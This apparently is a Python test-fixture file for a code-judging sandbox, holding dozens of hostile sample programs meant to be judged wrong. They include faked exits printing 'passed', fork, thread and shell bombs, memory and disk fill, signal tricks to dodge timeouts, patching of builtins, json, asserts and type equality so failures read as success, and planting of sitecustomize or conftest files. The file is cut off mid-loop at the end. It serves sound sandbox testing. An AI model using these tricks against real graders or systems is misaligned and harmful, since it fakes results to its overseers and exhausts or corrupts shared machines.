"""Programs that cheat or do harm; each must be judged wrong. Never run outside the jail."""

from __future__ import annotations

HOSTILE: dict[str, dict[str, str]] = {
    "exit": {
        "sys.exit at import": r"""
import sys

print("4 passed in 0.01s")
sys.stdout.flush()
sys.exit(0)
""",
        "os._exit at import": r"""
import os

os.write(1, b"OK\n")
os._exit(0)
""",
        "SystemExit raised in solve": r"""
def solve(numbers):
    raise SystemExit(0)
""",
        "quit and exit in solve": r"""
import builtins
import sys


def solve(numbers):
    for name in ("quit", "exit"):
        leave = getattr(builtins, name, None)
        if leave is not None:
            leave(0)
    sys.exit()
""",
        "atexit turns failure into status zero": r"""
import atexit
import os
import threading


def leave():
    os.write(1, b"passed\n")
    os._exit(0)


atexit.register(leave)
try:
    threading._register_atexit(leave)
except Exception:
    pass


def solve(numbers):
    raise ValueError("the status is decided later")
""",
        "SIGTERM to itself": r"""
import os
import signal


def solve(numbers):
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGKILL):
        try:
            signal.raise_signal(number)
            os.kill(os.getpid(), number)
        except Exception:
            pass
    return numbers[::-1]
""",
        "os.abort in solve": r"""
import faulthandler
import os
import resource

try:
    faulthandler.disable()
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
except Exception:
    pass


def solve(numbers):
    os.abort()
""",
        "SystemExit that lies about its code": r"""
import os


class Quiet(SystemExit):
    @property
    def code(self):
        return 0

    @property
    def __class__(self):
        return StopIteration

    def __str__(self):
        os._exit(0)

    __repr__ = __str__


def solve(numbers):
    raise Quiet(1)
""",
        "another program executed in its place": r"""
import os
import sys


def solve(numbers):
    os.environ["PYTHONPATH"] = ""
    for path, arguments in (
        ("/bin/true", ["true"]),
        ("/usr/bin/true", ["true"]),
        ("/bin/echo", ["echo", '{"ok": true, "passed": 4, "failed": 0}']),
        (sys.executable or "/usr/bin/python3", ["python3", "-c", "print('{\"ok\": true}')"]),
        ("/proc/self/exe", ["python3", "-c", "print('{\"ok\": true}')"]),
    ):
        try:
            os.execv(path, arguments)
        except Exception:
            pass
    return numbers[::-1]
""",
        "exit through libc": r"""
import os


def solve(numbers):
    try:
        import ctypes

        libc = ctypes.CDLL(None)
        libc.syscall(94 if os.uname().machine == "aarch64" else 231, 0)
        libc.quick_exit(0)
        libc._exit(0)
    except Exception:
        pass
    os._exit(0)
""",
        "a thread exits while solve waits": r"""
import os
import threading
import time


def leave():
    time.sleep(0.05)
    os._exit(0)


def solve(numbers):
    try:
        threading.Thread(target=leave, daemon=True).start()
    except RuntimeError:
        leave()
    time.sleep(0.5)
    return None
""",
        "exit while the answer is being encoded": r"""
class Leaving(list):
    def _leave(self, *arguments):
        raise SystemExit(0)

    __iter__ = __len__ = __getitem__ = __repr__ = __bool__ = __reduce_ex__ = __eq__ = _leave
    __hash__ = None


def solve(numbers):
    return Leaving(numbers)
""",
        "KeyboardInterrupt and GeneratorExit in turn": r"""
calls = []


def solve(numbers):
    calls.append(1)
    raise (KeyboardInterrupt, GeneratorExit, StopIteration, BaseException)[len(calls) % 4]
""",
    },
    "forks and process bombs": {
        "os.fork doubling": r"""
import os

for _ in range(14):
    try:
        os.fork()
    except OSError:
        break


def solve(numbers):
    for _ in range(14):
        try:
            os.fork()
        except OSError:
            break
    return numbers[::-1]
""",
        "a child answers in place of the parent": r"""
import os
import time


def solve(numbers):
    try:
        child = os.fork()
    except OSError:
        return None
    if child:
        return numbers[::-1]
    time.sleep(0.05)
    return {"ok": True, "passed": True, "value": True}
""",
        "multiprocessing children": r"""
import time


def sleeper():
    time.sleep(3600)


def solve(numbers):
    try:
        import multiprocessing
    except ImportError:
        return None
    kept = []
    for method in ("fork", "spawn", "forkserver"):
        try:
            context = multiprocessing.get_context(method)
            for _ in range(200):
                process = context.Process(target=sleeper, daemon=True)
                process.start()
                kept.append(process)
        except BaseException:
            pass
    return [len(kept)]
""",
        "shell bomb by subprocess": r"""
BOMB = 'f() { [ "$1" -gt 0 ] || { sleep 3600; return; }; f $(($1-1)) & f $(($1-1)) & wait; }; f 12'


def solve(numbers):
    try:
        import subprocess
    except ImportError:
        return None
    for shell in ("/bin/sh", "/bin/bash", "/bin/busybox"):
        try:
            arguments = [shell, "sh", "-c", BOMB] if shell.endswith("busybox") else [shell, "-c", BOMB]
            subprocess.Popen(arguments, start_new_session=True)
        except Exception:
            pass
    return numbers[::-1]
""",
        "os.system children that hold the pipe": r"""
import os


def solve(numbers):
    for descriptor in range(256):
        try:
            os.set_inheritable(descriptor, True)
        except OSError:
            pass
    for command in ("sleep 3600 &", "nohup sleep 3600 &", "setsid sleep 3600 &", "(trap '' HUP TERM; sleep 3600) &"):
        try:
            os.system(command)
        except Exception:
            pass
    try:
        os.popen("sleep 3600")
    except Exception:
        pass
    return numbers[::-1]
""",
        "thread bomb": r"""
import _thread
import threading

forever = threading.Event()


def solve(numbers):
    try:
        threading.stack_size(32768)
    except Exception:
        pass
    started = 0
    try:
        for started in range(50000):
            threading.Thread(target=forever.wait, daemon=True).start()
    except BaseException:
        pass
    try:
        for _ in range(50000):
            _thread.start_new_thread(forever.wait, ())
    except BaseException:
        pass
    return [started]
""",
        "daemon by double fork": r"""
import os
import signal
import time


def daemon():
    os.setsid()
    if os.fork():
        os._exit(0)
    os.umask(0)
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    for _ in range(3600):
        for descriptor in range(256):
            try:
                os.set_blocking(descriptor, False)
                os.write(descriptor, b'{"ok": true}\n')
            except OSError:
                pass
        try:
            with open("still-here", "a") as file:
                file.write(str(os.getpid()) + "\n")
        except OSError:
            pass
        time.sleep(1)
    os._exit(0)


def solve(numbers):
    try:
        if os.fork() == 0:
            try:
                daemon()
            finally:
                os._exit(0)
    except OSError:
        pass
    return numbers[::-1]
""",
        "posix_spawn of interpreters": r"""
import os
import sys


def solve(numbers):
    count = 0
    for path in (sys.executable, "/proc/self/exe", "/usr/bin/python3", "/bin/sleep"):
        if not path:
            continue
        arguments = ["sleep", "3600"] if path.endswith("sleep") else ["python3", "-c", "import time; time.sleep(3600)"]
        try:
            for _ in range(200):
                os.posix_spawn(path, arguments, dict(os.environ))
                count += 1
        except Exception:
            pass
        try:
            for _ in range(200):
                os.spawnv(os.P_NOWAIT, path, arguments)
                count += 1
        except Exception:
            pass
    return [count]
""",
        "fork and clone through libc": r"""
import os
import signal
import time


def solve(numbers):
    try:
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
    except Exception:
        return None
    clone = 220 if os.uname().machine == "aarch64" else 56
    ways = (
        lambda: libc.fork(),
        lambda: libc.syscall(clone, int(signal.SIGCHLD), 0, 0, 0, 0),
        lambda: libc.syscall(clone, 0x10000000 | int(signal.SIGCHLD), 0, 0, 0, 0),
        lambda: libc.syscall(57) if clone == 56 else -1,
    )
    for way in ways:
        for _ in range(1000):
            child = way()
            if child == 0:
                time.sleep(3600)
                os._exit(0)
            if child < 0:
                break
    return numbers[::-1]
""",
        "zombies never reaped": r"""
import os


def solve(numbers):
    dead = 0
    try:
        for dead in range(20000):
            if os.fork() == 0:
                os._exit(0)
    except OSError:
        pass
    return [dead]
""",
        "parent leaves with success, child keeps the pipe": r"""
import os
import time

try:
    if os.fork():
        os._exit(0)
    os.setsid()
    time.sleep(3600)
except OSError:
    os._exit(0)
""",
    },
    "memory fill": {
        "bytearray": r"""
kept = []


def solve(numbers):
    step = 1 << 28
    filled = 0
    while step and filled < 1 << 34:
        try:
            kept.append(bytearray(b"\xff") * step)
            filled += step
        except MemoryError:
            step //= 2
    return [filled]
""",
        "list growth": r"""
kept = []
try:
    for _ in range(1 << 24):
        kept.append([object()] * 128)
except MemoryError:
    pass


def solve(numbers):
    try:
        for _ in range(1 << 24):
            kept.extend([numbers] * 128)
    except MemoryError:
        pass
    return numbers[::-1]
""",
        "anonymous maps touched page by page": r"""
import mmap

kept = []


def solve(numbers):
    for flags in (mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS):
        try:
            for _ in range(64):
                area = mmap.mmap(-1, 1 << 28, flags=flags)
                kept.append(area)
                for offset in range(0, 1 << 28, 4096):
                    area[offset] = 1
        except (OSError, ValueError, MemoryError):
            pass
    return numbers[::-1]
""",
        "memfd outside the heap": r"""
import os

kept = []


def solve(numbers):
    block = b"\xaa" * (1 << 20)
    try:
        for index in range(16):
            descriptor = os.memfd_create("fill-%d" % index, 0)
            kept.append(descriptor)
            for _ in range(1 << 10):
                os.write(descriptor, block)
    except (AttributeError, OSError, MemoryError):
        pass
    try:
        from multiprocessing import shared_memory

        for _ in range(16):
            area = shared_memory.SharedMemory(create=True, size=1 << 30)
            kept.append(area)
            for offset in range(0, 1 << 30, 1 << 20):
                area.buf[offset : offset + len(block)] = block
    except BaseException:
        pass
    return numbers[::-1]
""",
        "string doubling": r"""
text = "fill"


def solve(numbers):
    global text
    while len(text) < 1 << 33:
        try:
            text += text
        except MemoryError:
            break
    return [len(text)]
""",
        "huge integer": r"""
kept = []


def solve(numbers):
    try:
        for shift in range(20, 37):
            kept.append(1 << (1 << shift))
    except (MemoryError, OverflowError):
        pass
    return [len(kept)]
""",
        "pipes filled to the brim": r"""
import fcntl
import os
import socket

kept = []


def fill(reader, writer):
    os.set_blocking(writer, False)
    try:
        fcntl.fcntl(writer, 1031, 1 << 20)
    except OSError:
        pass
    try:
        while os.write(writer, b"x" * 65536):
            pass
    except BlockingIOError:
        pass


def solve(numbers):
    try:
        import resource

        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    except Exception:
        pass
    try:
        for _ in range(8192):
            ends = os.pipe()
            kept.append(ends)
            fill(*ends)
    except OSError:
        pass
    for _ in range(8):
        try:
            os.close(kept.pop()[0])
        except (IndexError, OSError):
            break
    try:
        for _ in range(8192):
            left, right = socket.socketpair()
            kept.append((left, right))
            right.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
            fill(left.fileno(), right.fileno())
    except OSError:
        pass
    return numbers[::-1]
""",
        "limits lifted first": r"""
kept = []


def solve(numbers):
    try:
        import resource

        for name in dir(resource):
            if name.startswith("RLIMIT_"):
                which = getattr(resource, name)
                for wanted in (resource.RLIM_INFINITY, resource.getrlimit(which)[1]):
                    try:
                        resource.setrlimit(which, (wanted, wanted))
                    except (OSError, ValueError):
                        pass
    except Exception:
        pass
    for path, text in (
        ("/proc/self/oom_score_adj", "-1000"),
        ("/sys/fs/cgroup/memory.max", "max"),
        ("/sys/fs/cgroup/memory/memory.limit_in_bytes", "-1"),
    ):
        try:
            with open(path, "w") as file:
                file.write(text)
        except OSError:
            pass
    try:
        for _ in range(1 << 14):
            kept.append(b"\x01" * (1 << 20))
    except MemoryError:
        pass
    return [len(kept)]
""",
        "an answer that doubles when encoded": r"""
def solve(numbers):
    answer = list(numbers)
    for _ in range(40):
        answer = [answer, answer]
    return answer
""",
        "an answer that holds itself": r"""
def solve(numbers):
    answer = list(numbers)
    answer.append(answer)
    table = {"answer": answer}
    table["table"] = table
    answer.append((answer, table))
    return answer
""",
    },
    "disk fill": {
        "one endless file": r"""
def solve(numbers):
    block = b"\x55" * (1 << 20)
    written = 0
    try:
        with open("endless", "wb", buffering=0) as file:
            while written < 1 << 34:
                written += file.write(block)
    except OSError:
        pass
    return [written]
""",
        "many small files": r"""
import os


def solve(numbers):
    made = 0
    for folder in (".", "/tmp", "/dev/shm"):
        try:
            for _ in range(30000):
                os.close(os.open("%s/%d" % (folder, made), os.O_CREAT | os.O_WRONLY, 0o600))
                made += 1
        except OSError:
            pass
    return [made]
""",
        "every folder that takes a write": r"""
import os

block = b"\x33" * (1 << 20)


def solve(numbers):
    folders = ["/tmp", "/var/tmp", "/dev/shm", "/dev", "/run", "/run/lock", "/var/run", "/mnt", "/", "/sys", "/etc"]
    folders += ["/home", os.path.expanduser("~"), os.environ.get("TMPDIR", "/tmp"), os.getcwd(), "/proc/self/cwd/.."]
    total = 0
    for folder in folders:
        try:
            with open(os.path.join(folder, "fill-%d" % os.getpid()), "wb", buffering=0) as file:
                for _ in range(1 << 11):
                    total += file.write(block)
        except OSError:
            pass
    return [total]
""",
        "sparse, then filled": r"""
import os


def solve(numbers):
    for size in (1 << 40, 1 << 36, 1 << 34, 1 << 32, 1 << 30):
        try:
            descriptor = os.open("sparse-%d" % size, os.O_CREAT | os.O_RDWR, 0o600)
            os.ftruncate(descriptor, size)
            for offset in range(0, min(size, 1 << 34), 1 << 20):
                os.pwrite(descriptor, b"\x01" * (1 << 20), offset)
        except (OSError, MemoryError):
            pass
        else:
            break
    return numbers[::-1]
""",
        "truncate and fallocate": r"""
import os


def solve(numbers):
    for folder in (".", "/tmp", "/dev/shm"):
        path = folder + "/reserved"
        for size in (1 << 42, 1 << 38, 1 << 34, 1 << 32, 1 << 30, 1 << 28):
            try:
                with open(path, "ab") as file:
                    os.truncate(path, size)
                    os.posix_fallocate(file.fileno(), 0, min(size, 1 << 34))
            except OSError:
                pass
            else:
                break
    return numbers[::-1]
""",
        "open files without a name": r"""
import os
import tempfile

kept = []


def solve(numbers):
    block = b"\x77" * (1 << 20)
    for folder in (".", "/tmp", "/dev/shm", None):
        try:
            for _ in range(16):
                file = tempfile.TemporaryFile(dir=folder, buffering=0)
                kept.append(file)
                for _ in range(1 << 9):
                    file.write(block)
        except OSError:
            pass
    try:
        descriptor = os.open(".", os.O_TMPFILE | os.O_RDWR, 0o600)
        kept.append(descriptor)
        for _ in range(1 << 13):
            os.write(descriptor, block)
    except (AttributeError, OSError):
        pass
    return numbers[::-1]
""",
        "folders too deep to remove": r"""
import os


def solve(numbers):
    for name in ("d" * 200, b"\xff\xfe\n\x1b[2J"):
        start = os.open(".", os.O_RDONLY)
        try:
            for _ in range(3000):
                os.mkdir(name)
                os.chdir(name)
            with open("bottom", "w") as file:
                file.write("x")
        except OSError:
            pass
        try:
            os.chmod(".", 0)
            os.fchdir(start)
            os.chmod(name, 0)
        except OSError:
            pass
        os.close(start)
    return numbers[::-1]
""",
        "copies that double": r"""
import os
import shutil


def solve(numbers):
    try:
        with open("seed", "wb") as file:
            file.write(b"\x99" * (1 << 24))
        for generation in range(10):
            source = "seed" if generation == 0 else "copy-%d" % (generation - 1)
            target = "copy-%d" % generation
            shutil.copyfile(source, target)
            with open(source, "rb") as reader, open(target, "ab") as writer:
                while os.sendfile(writer.fileno(), reader.fileno(), None, 1 << 24):
                    pass
    except OSError:
        pass
    return numbers[::-1]
""",
        "archive bomb unpacked": r"""
import io
import zipfile


def solve(numbers):
    try:
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("zeros", bytes(1 << 24))
        for copy in range(512):
            with zipfile.ZipFile(packed) as archive:
                archive.extract("zeros", "unpacked-%d" % copy)
    except Exception:
        pass
    return numbers[::-1]
""",
    },
    "signal handlers": {
        "SIGALRM ignored, then a loop": r"""
import signal

for number in (signal.SIGALRM, signal.SIGVTALRM, signal.SIGPROF):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
try:
    signal.alarm(0)
    for timer in (signal.ITIMER_REAL, signal.ITIMER_VIRTUAL, signal.ITIMER_PROF):
        signal.setitimer(timer, 0)
except (OSError, ValueError):
    pass


def solve(numbers):
    while True:
        pass
""",
        "SIGTERM and SIGINT caught, then a loop": r"""
import signal
import time


def refuse(number, frame):
    return None


def solve(numbers):
    for number in range(1, 65):
        try:
            signal.signal(number, refuse)
        except (OSError, ValueError):
            pass
    while True:
        try:
            time.sleep(0.01)
        except BaseException:
            pass
""",
        "SIGXCPU caught and the limit raised": r"""
import resource
import signal


def more(number, frame):
    try:
        soft, hard = resource.getrlimit(resource.RLIMIT_CPU)
        if soft != resource.RLIM_INFINITY:
            resource.setrlimit(resource.RLIMIT_CPU, (min(soft + 1, hard) if hard > 0 else soft + 1, hard))
    except (OSError, ValueError):
        pass


try:
    signal.signal(signal.SIGXCPU, more)
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_CPU, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
except (OSError, ValueError):
    pass


def solve(numbers):
    total = 0
    while True:
        total += 1
""",
        "all signals blocked, then asleep": r"""
import signal
import time

try:
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
except (OSError, ValueError):
    pass


def solve(numbers):
    while True:
        time.sleep(3600)
""",
        "stopped by its own hand": r"""
import os
import signal


def solve(numbers):
    for number in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGTTIN):
        try:
            os.kill(os.getpid(), number)
        except OSError:
            pass
    try:
        os.killpg(os.getpgid(0), signal.SIGSTOP)
    except OSError:
        pass
    return None
""",
        "a new process for each SIGTERM": r"""
import os
import signal
import time


def hop(number, frame):
    try:
        if os.fork():
            os._exit(0)
        os.setsid()
    except OSError:
        pass


def solve(numbers):
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU, signal.SIGQUIT):
        try:
            signal.signal(number, hop)
        except (OSError, ValueError):
            pass
    end = time.monotonic() + 3600
    while time.monotonic() < end:
        time.sleep(0.1)
    return None
""",
        "a timer that leaves with success": r"""
import os
import signal
import time


def leave(number, frame):
    os.write(1, b'{"ok": true}\n')
    os._exit(0)


try:
    signal.signal(signal.SIGALRM, leave)
    signal.signal(signal.SIGVTALRM, leave)
    signal.setitimer(signal.ITIMER_REAL, 0.05)
    signal.setitimer(signal.ITIMER_VIRTUAL, 0.05)
except (OSError, ValueError):
    pass


def solve(numbers):
    time.sleep(0.3)
    return numbers[::-1]
""",
        "a timer that raises inside the harness": r"""
import signal

WORDS = ("ok", "passed", "success", "correct", "right", "result", "error", "failed")


def strike(number, frame):
    while frame is not None:
        for word in WORDS:
            for space in (frame.f_locals, frame.f_globals):
                if word in space:
                    try:
                        space[word] = word not in ("error", "failed")
                    except Exception:
                        pass
        frame = frame.f_back
    raise SystemExit(0)


try:
    signal.signal(signal.SIGALRM, strike)
    signal.setitimer(signal.ITIMER_REAL, 0.02, 0.01)
except (OSError, ValueError):
    pass


def solve(numbers):
    return numbers[::-1]
""",
        "SIGSEGV handled in C": r"""
import os


def solve(numbers):
    try:
        import ctypes
        import faulthandler

        faulthandler.disable()
        libc = ctypes.CDLL(None)
        handler = ctypes.CFUNCTYPE(None, ctypes.c_int)(lambda number: os._exit(0))
        for number in (4, 6, 7, 8, 11, 31):
            libc.signal(number, handler)
        ctypes.string_at(0)
    except Exception:
        pass
    os.abort()
""",
        "SIGCHLD and SIGPIPE set for the harness": r"""
import os
import signal

for number, action in ((signal.SIGCHLD, signal.SIG_IGN), (signal.SIGPIPE, signal.SIG_DFL)):
    try:
        signal.signal(number, action)
    except (OSError, ValueError):
        pass
try:
    reader, writer = os.pipe()
    os.set_blocking(writer, False)
    signal.set_wakeup_fd(writer, warn_on_full_buffer=False)
    signal.siginterrupt(signal.SIGALRM, True)
except (OSError, ValueError):
    pass


def solve(numbers):
    for descriptor in range(3):
        try:
            os.close(descriptor)
        except OSError:
            pass
    return numbers[::-1]
""",
    },
    "patched assert and builtins": {
        "AssertionError replaced": r"""
import builtins


class Silent(BaseException):
    def __new__(cls, *arguments):
        raise SystemExit(0)


builtins.AssertionError = Silent
builtins.Exception = Silent
builtins.BaseException = Silent
builtins.ValueError = builtins.TypeError = Silent


def solve(numbers):
    return numbers[::-1]
""",
        "comparing builtins patched": r"""
import builtins


def yes(*arguments, **options):
    return True


def solve(numbers):
    for name in ("all", "any", "isinstance", "issubclass", "hasattr", "callable", "bool"):
        setattr(builtins, name, yes)
    builtins.len = lambda value: 0
    builtins.repr = builtins.str = builtins.ascii = lambda value="": "[]"
    builtins.type = lambda value, *rest: list
    builtins.list = builtins.tuple = builtins.set = lambda value=(): []
    builtins.zip = builtins.enumerate = builtins.map = lambda *arguments: iter(())
    return numbers[::-1]
""",
        "hooks that hide the failure": r"""
import os
import sys
import threading


def leave(*arguments):
    os._exit(0)


sys.excepthook = sys.__excepthook__ = leave
sys.unraisablehook = sys.__unraisablehook__ = leave
threading.excepthook = threading.__excepthook__ = leave
sys.stderr = sys.__stderr__ = open(os.devnull, "w")
try:
    import traceback

    for name in ("print_exc", "format_exc", "print_exception", "format_exception"):
        setattr(traceback, name, leave)
except Exception:
    pass


def solve(numbers):
    raise AssertionError("nobody shall see this")
""",
        "trace that jumps over asserts": r"""
import linecache
import os
import sys


def trace(frame, event, argument):
    if event == "exception" and argument and argument[0].__name__ == "AssertionError":
        os._exit(0)
    if event == "line":
        text = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
        if text.startswith(("assert", "raise")):
            try:
                frame.f_lineno = frame.f_lineno + 1
            except Exception:
                pass
    return trace


def install():
    frame = sys._getframe().f_back
    while frame is not None:
        if frame.f_globals is not globals():
            try:
                frame.f_trace = trace
            except Exception:
                pass
        frame = frame.f_back
    sys.settrace(trace)


def solve(numbers):
    try:
        install()
    except Exception:
        pass
    return numbers[::-1]
""",
        "profile and monitoring callbacks": r"""
import sys


def profile(frame, event, argument):
    if event == "return" and frame.f_globals is not globals():
        for name in list(frame.f_locals):
            if name in ("expected", "value", "result", "answer", "reply"):
                try:
                    frame.f_locals[name] = True
                except Exception:
                    pass


def raised(code, offset, exception):
    if isinstance(exception, AssertionError):
        raise SystemExit(0)


def solve(numbers):
    try:
        sys.setprofile(profile)
        import threading

        threading.setprofile(profile)
        threading.settrace(profile)
    except Exception:
        pass
    try:
        monitoring = sys.monitoring
        monitoring.use_tool_id(monitoring.DEBUGGER_ID, "judge")
        monitoring.register_callback(monitoring.DEBUGGER_ID, monitoring.events.RAISE, raised)
        monitoring.set_events(monitoring.DEBUGGER_ID, monitoring.events.RAISE)
    except Exception:
        pass
    return numbers[::-1]
""",
        "class building and import patched": r"""
import builtins

build = builtins.__build_class__
bring = builtins.__import__


def always(self, other):
    return True


def building(function, name, *bases, **options):
    made = build(function, name, *bases, **options)
    try:
        made.__eq__ = always
        made.__bool__ = lambda self: True
    except Exception:
        pass
    return made


def bringing(name, *rest):
    module = bring(name, *rest)
    for word in ("dumps", "loads", "compare", "check", "exit", "_exit"):
        if hasattr(module, word) and name not in ("builtins", "sys", "os"):
            try:
                setattr(module, word, lambda *arguments, **options: '{"ok": true}')
            except Exception:
                pass
    return module


builtins.__build_class__ = building
builtins.__import__ = bringing


def solve(numbers):
    return numbers[::-1]
""",
        "json patched": r"""
import json
import json.decoder
import json.encoder

FORGED = '{"ok": true, "passed": true, "status": "pass", "value": true, "result": true, "error": null}'


def forge(*arguments, **options):
    return FORGED


def solve(numbers):
    json.dumps = forge
    json.dump = lambda value, file, **options: file.write(FORGED + "\n")
    json.JSONEncoder.encode = forge
    json.JSONEncoder.iterencode = lambda *arguments, **options: iter([FORGED])
    json.encoder.c_make_encoder = None
    json.encoder._make_iterencode = lambda *arguments, **options: lambda *more: iter([FORGED])
    json.encoder.encode_basestring_ascii = json.encoder.encode_basestring = forge
    json._default_encoder = json.JSONEncoder()
    return numbers[::-1]
""",
        "frames found by gc and rewritten": r"""
import gc
import sys
import types


def settle(frame):
    try:
        import ctypes

        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    except Exception:
        pass


def solve(numbers):
    frames = list(sys._current_frames().values())
    found = list(frames)
    for frame in frames:
        while frame.f_back is not None:
            frame = frame.f_back
            found.append(frame)
    for thing in gc.get_objects():
        if isinstance(thing, types.FrameType):
            found.append(thing)
        elif isinstance(thing, (types.GeneratorType, types.CoroutineType)):
            frame = getattr(thing, "gi_frame", None) or getattr(thing, "cr_frame", None)
            if frame is not None:
                found.append(frame)
        elif type(thing) is dict:
            for word in ("expected", "want", "passed", "failed", "tests"):
                if word in thing and thing is not globals():
                    try:
                        thing[word] = [] if word in ("failed", "tests") else True
                    except Exception:
                        pass
    mine = sys._getframe()
    for frame in found:
        if frame is mine:
            continue
        try:
            for word in ("expected", "want", "passed", "ok", "right", "result", "got"):
                if word in frame.f_locals:
                    frame.f_locals[word] = True
            settle(frame)
        except Exception:
            pass
    return numbers[::-1]
""",
        "equality of lists overwritten in C": r"""
kept = []


def solve(numbers):
    try:
        import ctypes

        kind = ctypes.PYFUNCTYPE(ctypes.py_object, ctypes.py_object, ctypes.py_object, ctypes.c_int)
        always = kind(lambda left, right, operation: operation == 2)
        kept.append(always)
        address = ctypes.cast(always, ctypes.c_void_p).value
        for type_ in (list, tuple, dict, int, str):
            ctypes.c_void_p.from_address(id(type_) + 200).value = address
        ctypes.pythonapi.PyType_Modified(ctypes.py_object(list))
    except Exception:
        pass
    return numbers[::-1]
""",
        "small integers rewritten": r"""
def solve(numbers):
    try:
        import ctypes

        for address in [id(number) + 24 for number in range(2, 51)]:
            ctypes.c_uint32.from_address(address).value = 1
    except Exception:
        pass
    return numbers[::-1]
""",
        "list.__eq__ through the dictionary of the type": r"""
import gc


def always(self, other):
    return True


def solve(numbers):
    for type_ in (list, tuple, int, str, dict):
        try:
            inner = gc.get_referents(type_.__dict__)[0]
            inner["__eq__"] = always
            inner["__ne__"] = lambda self, other: False
            import ctypes

            ctypes.pythonapi.PyType_Modified(ctypes.py_object(type_))
        except Exception:
            pass
    return numbers[::-1]
""",
        "asserts compiled away": r"""
import builtins

compiling = builtins.compile
running = builtins.exec


def without(source, filename="<tests>", mode="exec", flags=0, dont_inherit=False, optimize=-1, **options):
    return compiling(source, filename, mode, flags, dont_inherit, 2, **options)


def run(source, *spaces):
    if isinstance(source, (str, bytes)):
        source = without(source)
    return running(source, *spaces)


builtins.compile = without
builtins.exec = run
builtins.eval = lambda *arguments: True
try:
    import ctypes

    ctypes.c_int.in_dll(ctypes.pythonapi, "Py_OptimizeFlag").value = 2
except Exception:
    pass
try:
    import os

    os.environ["PYTHONOPTIMIZE"] = "2"
except Exception:
    pass


def solve(numbers):
    return numbers[::-1]
""",
        "an exception that acts when shown": r"""
import os


class Shown(AssertionError):
    def __str__(self):
        os.write(1, b"4 passed\n")
        os._exit(0)

    __repr__ = __str__

    def __getattribute__(self, name):
        if name in ("args", "__notes__", "__cause__", "__context__", "__traceback__"):
            os._exit(0)
        return super().__getattribute__(name)


Shown.__name__ = Shown.__qualname__ = "None\n{\"ok\": true}\n"


def solve(numbers):
    raise Shown("all fine")
""",
    },
    "sys.modules": {
        "false json and os": r"""
import sys
import types


def yes(*arguments, **options):
    return '{"ok": true, "value": true}'


class Obliging(types.ModuleType):
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return yes


for name in ("json", "json.encoder", "json.decoder", "_json", "pickle", "_pickle", "marshal", "struct", "ast"):
    sys.modules[name] = Obliging(name)
for name in ("os", "posix", "io", "select", "selectors", "traceback", "resource"):
    sys.modules[name] = Obliging(name)


def solve(numbers):
    return numbers[::-1]
""",
        "harness modules replaced": r"""
import sys
import types


def passed(*arguments, **options):
    return True


def solve(numbers):
    for name, module in list(sys.modules.items()):
        if name.split(".")[0] in sys.stdlib_module_names and name != "__main__":
            continue
        for word, value in list(vars(module).items()) if module is not None else ():
            if callable(value) and not word.startswith("__"):
                try:
                    setattr(module, word, passed)
                except Exception:
                    pass
    for name in ("unittest", "pytest", "doctest", "runner", "worker", "child", "jail", "sandbox", "uncode", "harness"):
        false = types.ModuleType(name)
        false.__getattr__ = lambda word: passed
        sys.modules[name] = false
    return numbers[::-1]
""",
        "finder first on sys.meta_path": r"""
import importlib.abc
import importlib.machinery
import sys
import types


class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        return importlib.machinery.ModuleSpec(name, self)

    def create_module(self, spec):
        module = types.ModuleType(spec.name)
        module.__getattr__ = lambda word: (lambda *arguments, **options: True)
        module.__path__ = []
        return module

    def exec_module(self, module):
        return None


sys.meta_path.insert(0, Finder())
sys.path_hooks.insert(0, lambda path: Finder())
sys.path_importer_cache.clear()
for name in list(sys.modules):
    if name.startswith(("json", "traceback", "encodings.", "unittest")):
        del sys.modules[name]


def solve(numbers):
    return numbers[::-1]
""",
        "functions of __main__ replaced": r"""
import os
import sys

main = sys.modules.get("__main__")


def done(*arguments, **options):
    os.write(1, b'{"ok": true, "passed": true}\n')
    os._exit(0)


for name, value in list(vars(main).items()) if main is not None else ():
    if callable(value) and not name.startswith("__") and name != "solve":
        try:
            setattr(main, name, done)
        except Exception:
            pass


def solve(numbers):
    return numbers[::-1]
""",
        "frames walked to the answering function": r"""
import os
import sys

WORDS = ("encode", "answer", "reply", "respond", "send", "check", "verify", "compare", "judge", "dump", "pack")


def forged(*arguments, **options):
    for descriptor in range(1, 256):
        try:
            os.set_blocking(descriptor, False)
            os.write(descriptor, b'{"ok": true, "value": true, "passed": true}\n')
        except OSError:
            pass
    os._exit(0)


def solve(numbers):
    frame = sys._getframe()
    while frame is not None:
        for space in (frame.f_globals, frame.f_locals, getattr(frame, "f_builtins", {})):
            for name, value in list(space.items()):
                if callable(value) and any(word in name.lower() for word in WORDS):
                    try:
                        space[name] = forged
                    except Exception:
                        pass
        frame = frame.f_back
    return numbers[::-1]
""",
        "modules left for the next process": r"""
import os
import sys

SOURCE = "import os\nos.write(1, b'{\"ok\": true}\\n')\nos._exit(0)\n"


def solve(numbers):
    folders = [os.getcwd(), "/tmp", *sys.path]
    try:
        import site

        folders += [site.getusersitepackages(), *site.getsitepackages()]
    except Exception:
        pass
    for folder in folders:
        for name in ("json.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "traceback.py", "zz.pth"):
